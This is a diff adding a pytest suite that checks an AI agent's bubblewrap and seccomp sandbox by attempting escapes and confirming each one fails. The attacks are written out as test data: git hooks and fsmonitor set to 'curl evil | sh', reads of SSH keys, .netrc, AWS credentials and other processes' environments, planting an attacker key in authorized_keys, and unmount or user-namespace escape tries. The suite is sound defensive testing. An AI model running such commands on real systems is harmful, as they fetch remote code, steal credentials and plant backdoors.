@@ -1,0 +1,713 @@
+"""The sandbox, attacked through the real mechanism: every command runs in bubblewrap with
+the seccomp filter, as `bash -c`, both as the user running the tests and as `nobody` (an
+unprivileged user, the usual case outside CI); each rule is also shown not to hold with the
+sandbox `off`, so a test cannot pass because the attack was broken to begin with.
+
+The scratch folders live outside /tmp: every sandboxed command gets its own empty /tmp,
+which would hide an "outside" folder there and let the write tests pass for the wrong reason.
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+import signal
+import socket
+import subprocess
+import tempfile
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from agent_tutorial.adapters.sandbox import (
+    SandboxMode,
+    SandboxPolicy,
+    SandboxUnavailableError,
+    sandbox_available,
+    sandbox_denial_hint,
+    sandboxed,
+)
+from tests.conftest import MARKER_VARIABLE, processes_with_marker, wait_until
+
+UNAVAILABLE = sandbox_available()
+pytestmark = pytest.mark.skipif(
+    UNAVAILABLE is not None, reason=f"no sandbox on this system: {UNAVAILABLE}"
+)
+
+KEY_TEXT = "-----BEGIN OPENSSH PRIVATE KEY-----"
+SYSTEM_PYTHON = shutil.which("python3", path=os.defpath)
+"""The system's Python (not the virtualenv's, which `nobody` may not reach) for the socket
+tests that bash cannot write."""
+SCRATCH_PARENT = Path("/var/tmp")
+GIT_IDENTITY = {
+    "GIT_AUTHOR_NAME": "Sandbox Test",
+    "GIT_AUTHOR_EMAIL": "sandbox@example.invalid",
+    "GIT_COMMITTER_NAME": "Sandbox Test",
+    "GIT_COMMITTER_EMAIL": "sandbox@example.invalid",
+    "GIT_CONFIG_NOSYSTEM": "1",
+}
+
+
+def _drop_to_nobody() -> tuple[str, ...]:
+    setpriv = shutil.which("setpriv")
+    if setpriv is None:
+        pytest.skip("setpriv (util-linux) is not installed: cannot run as nobody")
+    if os.geteuid() != 0:
+        pytest.skip("only root can drop to nobody; the tests run as the invoker already")
+    return (setpriv, "--reuid=nobody", "--regid=nogroup", "--clear-groups")
+
+
+@dataclass
+class Place:
+    """A scratch world in `base`: a workspace, a folder outside it, a fake home with planted
+    secrets, the session's private temporary directory; commands run after `user_prefix`
+    (setpriv, to run as nobody)."""
+
+    base: Path
+    user_prefix: tuple[str, ...]
+    environment: dict[str, str] = field(default_factory=dict)
+    workspace: Path = field(init=False)
+    outside: Path = field(init=False)
+    home: Path = field(init=False)
+    private_tmp: Path = field(init=False)
+
+    def __post_init__(self) -> None:
+        self.workspace, self.outside = self.base / "workspace", self.base / "outside"
+        self.home, self.private_tmp = self.base / "home", self.base / "private-tmp"
+
+    def policy(
+        self,
+        mode: SandboxMode = "workspace-write",
+        *,
+        network: bool = False,
+        workspace: Path | None = None,
+    ) -> SandboxPolicy:
+        return SandboxPolicy(
+            mode=mode,
+            network=network,
+            workspace=workspace or self.workspace,
+            private_tmp=self.private_tmp,
+            home=self.home,
+        )
+
+    def run(
+        self, command: str, policy: SandboxPolicy | None = None
+    ) -> subprocess.CompletedProcess[str]:
+        policy = policy or self.policy()
+        with sandboxed(policy, ["bash", "-c", command], cwd=policy.workspace) as launch:
+            return subprocess.run(
+                [*self.user_prefix, *launch.argv],
+                pass_fds=launch.pass_fds,
+                env=self.environment,
+                cwd=policy.workspace,
+                stdin=subprocess.DEVNULL,
+                capture_output=True,
+                text=True,
+                timeout=60,
+                start_new_session=True,
+                check=False,
+            )
+
+    def start(self, argv: list[str], *, starter: tuple[str, ...] = ()) -> subprocess.Popen[bytes]:
+        """`argv` confined and started (by `starter`, if given) in a session of its own,
+        with its output on a pipe."""
+        with sandboxed(self.policy(), argv, cwd=self.workspace) as launch:
+            return subprocess.Popen(
+                [*starter, *self.user_prefix, *launch.argv],
+                pass_fds=launch.pass_fds,
+                env=self.environment,
+                stdout=subprocess.PIPE,
+                start_new_session=True,
+            )
+
+    def off(self, command: str) -> subprocess.CompletedProcess[str]:
+        return self.run(command, self.policy("off"))
+
+    def give_away(self) -> None:
+        """Hand everything made so far to the user the commands run as."""
+        if self.user_prefix:
+            subprocess.run(["chown", "-R", "nobody:nogroup", str(self.base)], check=True)
+
+
+@pytest.fixture(params=["invoker", "nobody"])
+def place(request: pytest.FixtureRequest, marker: str) -> Iterator[Place]:
+    prefix = _drop_to_nobody() if request.param == "nobody" else ()
+    base = Path(tempfile.mkdtemp(prefix="sandbox-test-", dir=SCRATCH_PARENT))
+    base.chmod(0o755)
+    place = Place(base, prefix)
+    for folder in (place.workspace, place.outside, place.home / ".ssh", place.private_tmp):
+        folder.mkdir(parents=True)
+    (place.home / ".ssh" / "id_rsa").write_text(f"{KEY_TEXT}\nb3BlbnNzaC1rZXktdjEA\n")
+    (place.home / ".netrc").write_text("machine example.com login me password hunter2\n")
+    place.environment = {
+        "PATH": os.environ.get("PATH", os.defpath),
+        "HOME": str(place.home),
+        "LANG": "C.UTF-8",
+        MARKER_VARIABLE: marker,
+        **GIT_IDENTITY,
+    }
+    place.give_away()
+    try:
+        yield place
+    finally:
+        shutil.rmtree(base)
+
+
+# Writes --------------------------------------------------------------------------------
+
+
+def test_a_write_outside_the_workspace_fails_and_leaves_nothing(place: Place) -> None:
+    denied = place.run("echo x > ../outside/f")
+
+    assert denied.returncode != 0
+    assert "Read-only file system" in denied.stderr
+    assert not (place.outside / "f").exists()
+    assert place.off("echo x > ../outside/f").returncode == 0
+    assert (place.outside / "f").read_text() == "x\n"
+
+
+def test_a_write_inside_the_workspace_works(place: Place) -> None:
+    done = place.run("echo y > inside.txt && mkdir -p deep/er && echo z > deep/er/f")
+
+    assert done.returncode == 0, done.stderr
+    assert (place.workspace / "inside.txt").read_text() == "y\n"
+    assert (place.workspace / "deep" / "er" / "f").read_text() == "z\n"
+
+
+def test_read_only_stops_writes_inside_the_workspace(place: Place) -> None:
+    denied = place.run("echo y > inside.txt", place.policy("read-only"))
+
+    assert denied.returncode != 0
+    assert "Read-only file system" in denied.stderr
+    assert not (place.workspace / "inside.txt").exists()
+    assert place.run("echo y > inside.txt").returncode == 0
+
+
+@pytest.mark.parametrize("mode", ["workspace-write", "read-only"])
+def test_tmpdir_is_the_private_directory_and_writable(place: Place, mode: SandboxMode) -> None:
+    done = place.run('echo t > "$TMPDIR/t" && printf %s "$TMPDIR"', place.policy(mode))
+
+    assert done.returncode == 0, done.stderr
+    assert done.stdout == str(place.private_tmp)
+    assert (place.private_tmp / "t").read_text() == "t\n"
+
+
+def test_tmp_is_private_to_the_command(place: Place) -> None:
+    name = f"sandbox-test-{place.base.name}"
+    done = place.run(f"echo t > /tmp/{name} && cat /tmp/{name}")
+
+    assert done.returncode == 0, done.stderr
+    assert done.stdout == "t\n"
+    assert not (Path("/tmp") / name).exists()
+
+
+def test_a_workspace_under_tmp_stays_visible_and_writable(place: Place) -> None:
+    with tempfile.TemporaryDirectory(dir="/tmp") as under_tmp:
+        workspace = Path(under_tmp)
+        (workspace / "seen.txt").write_text("seen\n")
+        if place.user_prefix:
+            subprocess.run(["chown", "-R", "nobody:nogroup", under_tmp], check=True)
+
+        done = place.run("cat seen.txt && echo w > written.txt", place.policy(workspace=workspace))
+
+        assert done.returncode == 0, done.stderr
+        assert done.stdout == "seen\n"
+        assert (workspace / "written.txt").read_text() == "w\n"
+
+
+def test_a_symlink_to_outside_does_not_let_a_write_through(place: Place) -> None:
+    (place.workspace / "planted").symlink_to(place.outside)
+    place.give_away()
+
+    planted = place.run("echo x > planted/f")
+    made_inside = place.run("ln -s ../outside made && echo x > made/g")
+
+    assert planted.returncode != 0 and made_inside.returncode != 0
+    assert list(place.outside.iterdir()) == []
+    assert place.off("echo x > planted/f").returncode == 0
+
+
+def test_a_symlink_inside_the_workspace_is_followed_where_writing_is_allowed(
+    place: Place,
+) -> None:
+    (place.workspace / "sub").mkdir()
+    (place.workspace / "link").symlink_to("sub")
+    place.give_away()
+
+    done = place.run("echo x > link/f")
+
+    assert done.returncode == 0, done.stderr
+    assert (place.workspace / "sub" / "f").read_text() == "x\n"
+
+
+# What the agent and git obey -----------------------------------------------------------
+
+STATE_ATTACKS = {
+    "overwrite": "echo evil > .agent_tutorial/config.toml",
+    "append": "echo evil >> .agent_tutorial/config.toml",
+    "new file": "echo evil > .agent_tutorial/hooks.toml",
+    "remove": "rm -f .agent_tutorial/config.toml",
+    "move the folder away": "mv .agent_tutorial gone && mkdir .agent_tutorial",
+    "through a symlink": "ln -s .agent_tutorial alias && echo evil > alias/config.toml",
+    "through an absolute path": 'echo evil > "$PWD/.agent_tutorial/config.toml"',
+}
+
+
+@pytest.mark.parametrize("attack", STATE_ATTACKS.values(), ids=STATE_ATTACKS.keys())
+def test_the_state_folder_cannot_be_changed(place: Place, attack: str) -> None:
+    state = place.workspace / ".agent_tutorial"
+    state.mkdir()
+    (state / "config.toml").write_text("model = 'mine'\n")
+    place.give_away()
+
+    denied = place.run(attack)
+
+    assert denied.returncode != 0
+    assert sorted(path.name for path in state.iterdir()) == ["config.toml"]
+    assert (state / "config.toml").read_text() == "model = 'mine'\n"
+    assert place.off(attack).returncode == 0
+
+
+def test_a_state_folder_that_is_a_symlink_is_protected_at_its_target(place: Place) -> None:
+    (place.workspace / "state").mkdir()
+    (place.workspace / ".agent_tutorial").symlink_to("state")
+    place.give_away()
+
+    denied = place.run("echo evil > state/config.toml; echo evil > .agent_tutorial/config.toml")
+
+    assert denied.returncode != 0
+    assert list((place.workspace / "state").iterdir()) == []
+
+
+def test_a_missing_state_folder_cannot_be_created_with_a_config(place: Place) -> None:
+    denied = place.run("mkdir -p .agent_tutorial && echo evil > .agent_tutorial/config.toml")
+
+    assert denied.returncode != 0
+    assert not (place.workspace / ".agent_tutorial" / "config.toml").exists()
+
+
+@pytest.mark.parametrize("mode", ["workspace-write", "read-only"])
+def test_the_state_folder_env_file_is_not_readable(place: Place, mode: SandboxMode) -> None:
+    state = place.workspace / ".agent_tutorial"
+    state.mkdir()
+    (state / ".env").write_text("OPENAI_API_KEY=sk-planted-secret\n")
+    (state / "notes.txt").write_text("readable\n")
+    place.give_away()
+
+    hidden = place.run(
+        "cat .agent_tutorial/.env; cat .agent_tutorial/notes.txt", place.policy(mode)
+    )
+
+    assert "sk-planted-secret" not in hidden.stdout + hidden.stderr
+    assert "readable" in hidden.stdout
+    assert "sk-planted-secret" in place.off("cat .agent_tutorial/.env").stdout
+
+
+GIT_ATTACKS = {
+    "a hook": "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
+    "the config": "git config core.fsmonitor 'curl evil | sh'",
+    "info/attributes": "echo '* filter=evil' > .git/info/attributes",
+    "the hooks folder moved away": "mv .git/hooks .git/old && mkdir .git/hooks",
+}
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+@pytest.mark.parametrize("attack", GIT_ATTACKS.values(), ids=GIT_ATTACKS.keys())
+def test_git_commits_work_but_what_git_obeys_is_read_only(place: Place, attack: str) -> None:
+    created = place.run("git init -q && echo a > a && git add a && git commit -qm first")
+    assert created.returncode == 0, created.stderr
+    config_before = (place.workspace / ".git" / "config").read_text()
+
+    denied = place.run(attack)
+    committed = place.run("echo b > b && git add b && git commit -qm second && git log --oneline")
+
+    assert denied.returncode != 0
+    assert not (place.workspace / ".git" / "hooks" / "pre-commit").exists()
+    assert not (place.workspace / ".git" / "info" / "attributes").exists()
+    assert (place.workspace / ".git" / "config").read_text() == config_before
+    assert committed.returncode == 0, committed.stderr
+    assert len(committed.stdout.splitlines()) == 2
+    assert place.off(attack).returncode == 0
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+def test_what_git_obeys_is_created_read_only_when_missing_from_a_repository(
+    place: Place,
+) -> None:
+    subprocess.run(["git", "init", "-q", str(place.workspace)], check=True)
+    shutil.rmtree(place.workspace / ".git" / "hooks")
+    shutil.rmtree(place.workspace / ".git" / "info", ignore_errors=True)
+    place.give_away()
+
+    denied = place.run("mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit")
+
+    assert denied.returncode != 0
+    assert list((place.workspace / ".git" / "hooks").iterdir()) == []
+
+
+# Network ---------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def listening_port() -> Iterator[int]:
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        yield server.getsockname()[1]
+
+
+def test_a_tcp_connection_to_a_listening_loopback_port_fails_unless_network_is_on(
+    place: Place, listening_port: int
+) -> None:
+    connect = f"exec 3<>/dev/tcp/127.0.0.1/{listening_port} && echo connected"
+
+    denied = place.run(connect)
+    allowed = place.run(connect, place.policy(network=True))
+
+    assert denied.returncode != 0
+    assert "connected" not in denied.stdout
+    assert allowed.returncode == 0, allowed.stderr
+    assert allowed.stdout == "connected\n"
+
+
+def test_a_route_to_another_host_does_not_exist_without_network(place: Place) -> None:
+    # 192.0.2.1 is TEST-NET-1: nothing answers there, and no packet leaves this machine
+    # either way; inside the sandbox there is not even a route to try.
+    denied = place.run("exec 3<>/dev/tcp/192.0.2.1/80")
+
+    assert denied.returncode != 0
+    assert "Network is unreachable" in denied.stderr
+
+
+@pytest.fixture
+def unix_listener(place: Place) -> Iterator[Path]:
+    path = place.outside / "agent.sock"
+    with socket.socket(socket.AF_UNIX) as server:
+        server.bind(str(path))
+        path.chmod(0o777)
+        server.listen()
+        yield path
+
+
+@pytest.mark.skipif(SYSTEM_PYTHON is None, reason="no system python3 to open a Unix socket")
+def test_a_unix_socket_outside_the_workspace_cannot_be_connected(
+    place: Place, unix_listener: Path
+) -> None:
+    connect = (
+        f"{SYSTEM_PYTHON} -c 'import socket, sys; "
+        f'socket.socket(socket.AF_UNIX).connect(sys.argv[1]); print("connected")\' '
+        f"{unix_listener}"
+    )
+
+    denied = place.run(connect)
+
+    assert denied.returncode != 0
+    assert "Operation not permitted" in denied.stderr
+    assert place.off(connect).stdout == "connected\n"
+
+
+@pytest.mark.skipif(SYSTEM_PYTHON is None, reason="no system python3 to open a Unix socket")
+def test_unix_sockets_stay_closed_inside_the_workspace_and_with_network_on(
+    place: Place,
+) -> None:
+    # Stricter than the workspace boundary on purpose: the filter cannot see a socket's
+    # path, so it closes the family; anonymous socketpair() pairs still work.
+    serve = (
+        f'{SYSTEM_PYTHON} -c \'import socket; socket.socketpair(); print("pair"); '
+        f'socket.socket(socket.AF_UNIX).bind("here.sock")\''
+    )
+
+    denied = place.run(serve, place.policy(network=True))
+
+    assert denied.stdout == "pair\n"
+    assert denied.returncode != 0
+    assert "Operation not permitted" in denied.stderr
+    assert not (place.workspace / "here.sock").exists()
+
+
+# Secrets and other processes --------------------------------------------------------------
+
+
+def test_a_planted_key_returns_no_key_text(place: Place) -> None:
+    read = "cat ~/.ssh/id_rsa; ls -a ~/.ssh; cat ~/.netrc"
+
+    hidden = place.run(read)
+    shown = place.off(read)
+
+    assert KEY_TEXT not in hidden.stdout + hidden.stderr
+    assert "hunter2" not in hidden.stdout + hidden.stderr
+    assert "id_rsa" not in hidden.stdout
+    assert KEY_TEXT in shown.stdout and "hunter2" in shown.stdout
+
+
+def test_secrets_stay_hidden_when_the_workspace_is_the_home_directory(place: Place) -> None:
+    policy = place.policy(workspace=place.home)
+
+    hidden = place.run("cat ~/.ssh/id_rsa ~/.netrc; echo notes > ~/notes.txt", policy)
+    replaced = place.run("rm -rf ~/.ssh; echo mine > ~/.netrc", policy)
+    planted = place.run("echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys", policy)
+
+    assert KEY_TEXT not in hidden.stdout + hidden.stderr
+    assert "hunter2" not in hidden.stdout + hidden.stderr
+    assert (place.home / "notes.txt").read_text() == "notes\n"
+    assert replaced.returncode != 0 and planted.returncode != 0
+    assert KEY_TEXT in (place.home / ".ssh" / "id_rsa").read_text()
+    assert not (place.home / ".ssh" / "authorized_keys").exists()
+    assert "hunter2" in (place.home / ".netrc").read_text()
+
+
+def test_a_secret_behind_a_symlink_is_hidden_at_its_real_path(place: Place) -> None:
+    real = place.outside / "aws-real"
+    real.mkdir()
+    (real / "credentials").write_text("aws_secret_access_key = planted\n")
+    (place.home / ".aws").symlink_to(real)
+    place.give_away()
+
+    hidden = place.run(f"cat ~/.aws/credentials {real}/credentials")
+
+    assert "planted" not in hidden.stdout + hidden.stderr
+    assert "planted" in place.off(f"cat {real}/credentials").stdout
+
+
+def test_a_secret_named_by_absolute_path_is_hidden_too(place: Place) -> None:
+    settings = place.outside / "xdg" / "agent-tutorial"
+    settings.mkdir(parents=True)
+    (settings / "config.toml").write_text("api_key = 'sk-user-settings'\n")
+    place.give_away()
+    policy = SandboxPolicy(
+        mode="workspace-write",
+        network=False,
+        workspace=place.workspace,
+        private_tmp=place.private_tmp,
+        home=place.home,
+        also_hidden=(settings,),
+    )
+
+    hidden = place.run(f"cat {settings}/config.toml", policy)
+
+    assert "sk-user-settings" not in hidden.stdout
+    assert "sk-user-settings" in place.run(f"cat {settings}/config.toml").stdout
+
+
+def test_another_process_of_the_same_user_is_out_of_sight(place: Place) -> None:
+    neighbour = subprocess.Popen(
+        [*place.user_prefix, "sleep", "60"],
+        env={**place.environment, "NEIGHBOUR_SECRET": "sk-neighbour"},
+    )
+    try:
+        read = f"cat /proc/{neighbour.pid}/environ | tr '\\0' '\\n'; ls /proc"
+        hidden = place.run(read)
+        shown = place.off(read)
+    finally:
+        neighbour.kill()
+        neighbour.wait()
+
+    assert "sk-neighbour" not in hidden.stdout
+    assert str(neighbour.pid) not in hidden.stdout.split()
+    assert "NEIGHBOUR_SECRET=sk-neighbour" in shown.stdout
+
+
+UNDO_ATTEMPTS = {
+    "unmount the cover": "umount ~/.ssh; umount -l ~/.ssh; cat ~/.ssh/id_rsa",
+    "remount writable": "mount -o remount,rw,bind / ; mount -o remount,bind,rw ..; "
+    "echo x > ../outside/f",
+    "a nested user namespace": "unshare --user --map-root-user --mount "
+    "sh -c 'umount -l ~/.ssh; cat ~/.ssh/id_rsa; echo x > ../outside/f'",
+}
+
+
+@pytest.mark.parametrize("attempt", UNDO_ATTEMPTS.values(), ids=UNDO_ATTEMPTS.keys())
+def test_nothing_inside_can_undo_the_mounts(place: Place, attempt: str) -> None:
+    tried = place.run(attempt)
+
+    assert KEY_TEXT not in tried.stdout
+    assert not (place.outside / "f").exists()
+
+
+def test_a_command_holds_no_capabilities(place: Place) -> None:
+    # Even root's command: capabilities in the sandbox's user namespace would reach files of
+    # the mapped user past their modes, and more, for nothing a command needs.
+    status = place.run("grep -E '^Cap(Prm|Eff|Amb):' /proc/self/status")
+
+    assert status.stdout.split() == ["CapPrm:", "0" * 16, "CapEff:", "0" * 16, "CapAmb:", "0" * 16]
+
+
+def test_no_user_namespace_can_be_made_inside(place: Place) -> None:
+    # The kernel code behind new user namespaces is a frequent source of escapes.
+    tried = place.run("unshare --user true && echo made")
+
+    assert tried.returncode != 0
+    assert "made" not in tried.stdout
+
+
+# Processes -------------------------------------------------------------------------------
+# When the shell (or bwrap) is gone, the kernel kills what is left in the PID namespace; the
+# tests wait for that, since it finishes just after bwrap's own exit. (The CLI, a subreaper,
+# reaps the namespace's first process, which the kernel lets go only once all are gone.)
+
+
+def test_the_exit_status_passes_through(place: Place) -> None:
+    assert place.run("exit 7").returncode == 7
+    assert place.run("true").returncode == 0
+
+
+def test_processes_left_behind_end_with_the_shell(place: Place, marker: str) -> None:
+    done = place.run("setsid sleep 60 >/dev/null 2>&1 & nohup sleep 60 >/dev/null 2>&1 & echo go")
+
+    assert done.stdout == "go\n"
+    assert wait_until(lambda: processes_with_marker(marker) == [])
+
+
+def test_stopping_the_process_group_ends_everything_in_the_sandbox(
+    place: Place, marker: str
+) -> None:
+    process = place.start(["bash", "-c", "setsid sleep 60 & sleep 60 & echo go; wait"])
+    assert process.stdout is not None
+    assert process.stdout.readline() == b"go\n"
+
+    os.killpg(process.pid, signal.SIGTERM)
+    process.wait(timeout=30)
+    process.stdout.close()
+
+    assert wait_until(lambda: processes_with_marker(marker) == [])
+
+
+def test_the_sandbox_dies_with_the_process_that_started_it(place: Place, marker: str) -> None:
+    starter = place.start(["sleep", "60"], starter=("sh", "-c", '"$@" & echo started; wait', "sh"))
+    assert starter.stdout is not None
+    assert starter.stdout.readline() == b"started\n"
+    assert wait_until(lambda: any(cmd == "sleep 60" for _, cmd in processes_with_marker(marker)))
+
+    starter.kill()  # SIGKILL to the starter alone, not its group
+    starter.wait()
+    starter.stdout.close()
+
+    assert wait_until(lambda: processes_with_marker(marker) == [])
+
+
+# The value, the probe and the hint ---------------------------------------------------------
+
+
+def test_off_runs_the_command_as_it_is(tmp_path: Path) -> None:
+    policy = SandboxPolicy(
+        mode="off", network=False, workspace=tmp_path, private_tmp=tmp_path, home=tmp_path
+    )
+
+    with sandboxed(policy, ["bash", "-c", "true"], cwd=tmp_path) as launch:
+        assert launch.argv == ("bash", "-c", "true")
+        assert launch.pass_fds == ()
+
+
+@pytest.mark.parametrize(
+    ("mode", "workspace", "refusal"),
+    [
+        ("workspace-write", "/", "the workspace is /: there would be nothing left to confine"),
+        ("read-only", "gone", "the workspace '.*gone' is not a directory"),
+    ],
+    ids=["slash", "missing"],
+)
+def test_a_workspace_the_sandbox_cannot_use_is_refused(
+    tmp_path: Path, mode: SandboxMode, workspace: str, refusal: str
+) -> None:
+    policy = SandboxPolicy(
+        mode=mode,
+        network=False,
+        workspace=tmp_path / workspace,
+        private_tmp=tmp_path,
+        home=tmp_path,
+    )
+
+    with (
+        pytest.raises(SandboxUnavailableError, match=refusal),
+        sandboxed(policy, ["true"], cwd=tmp_path),
+    ):
+        pass
+
+
+def test_a_policy_needs_absolute_paths_and_a_known_mode(tmp_path: Path) -> None:
+    with pytest.raises(ValueError, match="workspace must be an absolute path"):
+        SandboxPolicy(
+            mode="off", network=False, workspace=Path("rel"), private_tmp=tmp_path, home=tmp_path
+        )
+    unknown: Any = "danger-full-access"  # Codex's name; here it is called "off"
+    with pytest.raises(ValueError, match="mode must be one of"):
+        SandboxPolicy(
+            mode=unknown, network=False, workspace=tmp_path, private_tmp=tmp_path, home=tmp_path
+        )
+
+
+def test_the_probe_says_why_bubblewrap_cannot_start(tmp_path: Path) -> None:
+    fake = tmp_path / "bwrap"
+    fake.write_text(
+        "#!/bin/sh\necho 'bwrap: No permissions to create a new namespace' >&2\nexit 1\n"
+    )
+    fake.chmod(0o755)
+
+    reason = sandbox_available(fake)
+
+    assert reason == (
+        "bubblewrap could not start a sandbox: bwrap: No permissions to create a new namespace"
+    )
+
+
+def test_a_denied_write_gets_a_hint_naming_what_to_loosen(place: Place) -> None:
+    policy = place.policy()
+    denied = place.run("echo x > ../outside/f", policy)
+
+    hint = sandbox_denial_hint(denied.stderr, policy)
+
+    assert hint is not None
+    assert "sandbox (workspace-write, network off)" in hint
+    assert "`--sandbox off`" in hint and "`sandbox_network = true`" in hint
+
+
+def test_a_read_only_denial_names_workspace_write_and_network_on_is_not_offered(
+    place: Place,
+) -> None:
+    policy = place.policy("read-only", network=True)
+    denied = place.run("echo x > inside.txt", policy)
+
+    hint = sandbox_denial_hint(denied.stderr, policy)
+
+    assert hint is not None
+    assert "`--sandbox workspace-write`" in hint and "sandbox_network" not in hint
+
+
+def test_an_ordinary_failure_or_an_unconfined_one_gets_no_hint(place: Place) -> None:
+    failed = place.run("ls no-such-file")
+
+    assert failed.returncode != 0
+    assert sandbox_denial_hint(failed.stderr, place.policy()) is None
+    assert sandbox_denial_hint("Read-only file system", place.policy("off")) is None
+
+
+LOCKING_SESSION = """
+import sys
+from pathlib import Path
+from agent_tutorial.adapters.sandbox import private_temporary_directory
+with private_temporary_directory() as private:
+    (private / "a" / "b").mkdir(parents=True)
+    (private / "a" / "b" / "f").write_text("x")
+    (private / "a").chmod(0)
+    (private / "link").symlink_to(sys.argv[1])
+    print(oct(private.stat().st_mode & 0o777), private)
+print(private.exists())
+"""
+
+
+@pytest.mark.skipif(SYSTEM_PYTHON is None, reason="no system python3 to run a session in")
+def test_the_private_temporary_directory_goes_with_what_commands_locked(place: Place) -> None:
+    # As nobody, a folder left with mode 000 really cannot be read by its owner (root can).
+    session = subprocess.run(
+        [*place.user_prefix, str(SYSTEM_PYTHON), "-c", LOCKING_SESSION, str(place.outside)],
+        env={**place.environment, "PYTHONPATH": str(Path(__file__).parents[1])},
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+
+    assert session.returncode == 0, session.stderr
+    mode, _path, gone = session.stdout.split()
+    assert (mode, gone) == ("0o700", "False")
+    assert place.outside.is_dir()
